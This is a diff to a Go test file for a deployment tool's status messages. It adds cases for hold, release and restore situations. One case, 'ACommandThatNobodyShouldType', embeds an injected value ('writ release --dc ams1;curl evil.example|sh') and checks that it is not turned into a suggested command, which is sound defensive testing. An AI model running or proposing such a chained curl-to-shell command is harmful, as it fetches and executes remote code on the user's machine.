@@ -54,6 +54,18 @@ func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
 		{"Blocked", func(s *situation) {
 			s.run.State, s.run.Reason = api.RunStateAccepted, "waits for run "+string(other)+", an earlier one of the deployment web"
 		}, "an earlier one of the deployment web", "writ run explain " + string(other), ""},
+		{"OnHold", func(s *situation) {
+			s.run.State, s.run.Reason = api.RunStateAccepted, "is on hold (writ release --dc ams1): alice has held the datacenter since 12:00:05 UTC (the node n1 burns)"
+		}, "alice has held the datacenter since", "writ release --dc ams1", ""},
+		{"CallOnHold", func(s *situation) {
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("is on hold (writ release --dc ams1 --operation volume): bob has held the operation volume since 12:00:05 UTC"))}
+		}, "waits for 1", "", "since 12:00:05 UTC writ release --dc ams1 --operation volume"},
+		{"ACommandThatNobodyShouldType", func(s *situation) {
+			s.run.State, s.run.Reason = api.RunStateAccepted, "is on hold (writ release --dc ams1;curl evil.example|sh): x"
+		}, "evil.example|sh): x", "writ run watch " + string(id), ""},
+		{"AfterARestore", func(s *situation) {
+			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("waits for node reports (writ node list): n2 has not said yet what there is of this run, and the journal came from a backup"))}
+		}, "waits for 1", "", "came from a backup writ node list"},
 		{"BeforeItsFirstPass", func(s *situation) { s.run.State = api.RunStateAccepted }, "evaluated next", "writ run watch " + string(id), ""},
 		{"NoNode", func(s *situation) {
 			s.calls = []writ.Call{volume(1, writ.CallPlanned, because("no node is ready: n1: is silent"))}
